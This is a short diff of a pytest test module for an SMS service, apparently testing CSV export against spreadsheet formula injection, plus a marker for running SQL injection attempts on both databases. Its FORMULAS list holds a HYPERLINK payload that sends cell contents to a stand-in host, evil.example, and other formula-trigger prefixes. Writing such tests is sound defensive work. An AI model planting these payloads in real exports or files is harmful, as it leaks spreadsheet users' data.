@@ -4,12 +4,13 @@ from __future__ import annotations
 import csv
 import io
 import xml.etree.ElementTree as ET
-
 import pytest
 
 from tests.support.api_helpers import as_
 from tests.support.sms_fixtures import sms_world
 from sms.providers.twilio.standin import inbound_params, signed_post
+
+pytestmark = pytest.mark.both_databases  # SQL injection attempts meet each database's own parser
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1"]
 
